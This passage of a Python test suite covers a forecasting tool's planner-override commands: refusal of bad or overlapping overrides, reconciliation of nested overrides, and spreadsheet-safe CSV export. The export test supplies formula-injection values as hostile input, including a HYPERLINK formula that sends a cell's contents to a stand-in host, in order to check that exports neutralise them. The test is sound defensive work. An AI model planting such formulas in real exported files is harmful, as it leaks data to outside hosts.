    base = ("--from", day(4), "--to", day(6), "--reason", "campaign")
    run = lambda *a: seam("override", "add", "--config", str(path), *today, "--author", "ann", *a)  # noqa: E731
    # refused whole, nothing written: an unknown category, a warehouse without series, a total
    # overlapping the category below
    assert run("--category", "NO-SUCH-CATEGORY", *base, "--value", "10") == 4
    assert "unknown category 'NO-SUCH-CATEGORY'" in capsys.readouterr().err
    assert run("--total", "--warehouse", "WH-NONE", *base, "--value", "10") == 4
    assert "unknown warehouse 'WH-NONE'" in capsys.readouterr().err
    assert run("--category", category, *base, "--value", "250") == 0
    assert "added 1 override(s): ids [1]" in capsys.readouterr().out
    # a warehouse's total crosses the category (neither holds the other): refused
    wh0 = str(children[children["category"] == category]["warehouse"].iloc[0])
    assert run("--total", "--warehouse", wh0, *base, "--change", "10%") == 4
    err = capsys.readouterr().err
    assert (
        f"overlaps override #1 category {category} x all warehouses" in err and "nothing was written" in err
    )
    bad = tmp_path / "bad.csv"
    bad.write_text(
        "sku,category,warehouse,start_date,end_date,value,relative_change,author,reason\n"
        f",,,{day(8)},{day(9)},,0.1,bob,total ok\n"
        f",NO-SUCH-CATEGORY,,{day(8)},{day(9)},5,,bob,unknown\n"
    )
    assert seam("override", "import", "--config", str(path), *today, str(bad)) == 4
    assert "row 2 (category NO-SUCH-CATEGORY x all warehouses" in capsys.readouterr().err
    assert list(stored(cfg).override_id) == [1]
    good = tmp_path / "good.csv"  # a category file needs no sku column
    good.write_text(
        f"category,start_date,end_date,value,author,reason\n{category},{day(8)},{day(9)},100,bob,fair\n"
    )
    assert seam("override", "import", "--config", str(path), *today, str(good)) == 0
    # nested overrides: one SKU of the category on one day (inside #1), the total around #1
    sku0 = str(children[(children["category"] == category) & (children["warehouse"] == wh0)]["sku"].iloc[0])
    one_day = ("--from", day(5), "--to", day(5), "--reason", "fair")
    assert run("--sku", sku0, "--warehouse", wh0, *one_day, "--value", "40") == 0
    assert run("--total", *base, "--value", "400") == 0
    # and a total below the category inside it (100 a day on day 8): the category stands, reported
    assert run("--total", "--from", day(8), "--to", day(8), "--reason", "cut", "--value", "50") == 0
    assert list(stored(cfg).override_id) == [1, 2, 3, 4, 5]
    assert seam("override", "list", "--config", str(path), *today) == 0
    out = capsys.readouterr().out
    assert f"#1  category {category} x all warehouses  {day(4)}..{day(6)}  = 250/day" in out
    assert f"#2  category {category} x all warehouses  {day(8)}..{day(9)}  = 100/day  by bob" in out
    report = run_all(cfg, RunContext(NIGHT))
    text = (report.parent / "report.txt").read_text()
    section = text[text.index("PLANNER OVERRIDES") : text.index("DATA QUALITY")]
    assert f"#1 category {category} x all warehouses {day(4)}..{day(6)} = 250 units/day" in section
    assert f"category {category} · all warehouses" in report.read_text()
    with sa.create_engine(url).connect() as conn:
        fc = pd.read_sql(
            sa.text(
                "SELECT sku, warehouse, target_date, yhat, yhat_final, override_ids FROM seam_forecasts "
                "WHERE run_date = :d"
            ),
            conn,
            params={"d": NIGHT},
        )
    fc["target_date"] = pd.to_datetime(fc["target_date"])
    fc = fc.merge(cats, on="sku", how="left")
    inside = fc[(fc.category == category) & fc.target_date.between(day(4), day(6))]
    assert inside.groupby("target_date").size().tolist() == [n_children] * 3
    # the category keeps its 250 a day; on day 5 the SKU's 40 is made up by its siblings
    assert (inside.groupby("target_date").yhat_final.sum() - 250.0).abs().max() < 1e-6
    pinned = (inside.sku == sku0) & (inside.warehouse == wh0) & (inside.target_date == day(5))
    assert inside[pinned].yhat_final.tolist() == [40.0] and inside[pinned].override_ids.tolist() == ["3"]
    assert (inside[~pinned].override_ids == "1").all()
    # the total is 400 a day on days 4-6, the other categories making up 400 - 250
    window = fc[fc.target_date.between(day(4), day(6))]
    assert (window.groupby("target_date").yhat_final.sum() - 400.0).abs().max() < 1e-6
    assert (window.drop(inside.index).override_ids == "4").all()
    later = fc[(fc.category == category) & fc.target_date.between(day(8), day(9))]
    assert (later.groupby("target_date").yhat_final.sum() - 100.0).abs().max() < 1e-6
    assert (later.override_ids == "2").all()
    squeezed = fc[(fc.category != category) & (fc.target_date == day(8))]
    assert len(squeezed) and (squeezed.yhat_final == 0).all() and (squeezed.override_ids == "5").all()
    assert f"NOT MET override #5 total x all warehouses {day(8)}..{day(8)}: on 1 date(s)" in section
    rest = fc.drop(window.index).drop(later.index).drop(squeezed.index)
    assert rest.override_ids.isna().all() and (rest.yhat_final == rest.yhat).all()


def test_a_csv_written_for_a_spreadsheet_runs_no_formula_and_reads_back_the_same(
    planner_db, capsys, tmp_path
):
    """`list --csv`: text cells a spreadsheet would run as a formula start with `'`; `import`
    takes it off again, so the file a planner edits gives back the same text."""
    path, cfg = planner_db
    hostile = ['=HYPERLINK("http://x.test/?"&A1,"click")', "+1 555 0100", "-2 cases", "@SUM(A1)", "\t=1+1"]
    header = "sku,warehouse,start_date,end_date,value,relative_change,author,reason,expires_on\n"
    rows = [
        f'S0000,W1,2026-11-24,2026-11-25,12,,"{hostile[3]}","{hostile[0].replace(chr(34), chr(34) * 2)}",\n',
        f'S0000,W2,2026-11-24,2026-11-25,,-0.5,ann,"{hostile[1]}",\n',
        f'S0001,W1,2026-11-24,2026-11-25,3,,ann,"{hostile[2]}",\n',
        f'S0001,W2,2026-11-24,2026-11-25,4,,ann,"{hostile[4]}",\n',
    ]
    given = tmp_path / "given.csv"
    given.write_text(header + "".join(rows))
    assert seam("override", "import", "--config", str(path), "--today", TODAY, str(given)) == 0
    first = stored(cfg)
    assert set(first.reason) == {hostile[0], hostile[1], hostile[2], hostile[4]} and "@SUM(A1)" in set(
        first.author
    )
    out = tmp_path / "export.csv"
    assert seam("override", "list", "--config", str(path), "--today", TODAY, "--csv", str(out)) == 0
    assert f"wrote 4 override(s) to {out}" in capsys.readouterr().out
    written = pd.read_csv(out, dtype=str, keep_default_na=False)
    for column in ("reason", "author"):  # no cell a spreadsheet runs
        assert not written[column].str.match(r"[=+\-@\t\r]").any(), written[column].tolist()
    assert "'=HYPERLINK(" in written["reason"].iloc[0] and written["author"].iloc[0] == "'@SUM(A1)"
    assert written["relative_change"].tolist() == ["", "-0.5", "", ""]  # numbers are written as numbers
    # the exported file, with its dates moved on, is imported as new overrides with the same text
    moved = written.assign(start_date="2026-11-28", end_date="2026-11-29")
    moved.to_csv(out, index=False)
    assert seam("override", "import", "--config", str(path), "--today", TODAY, str(out)) == 0
    second = stored(cfg).iloc[4:]
    assert second.reason.tolist() == first.reason.tolist() and second.author.tolist() == first.author.tolist()
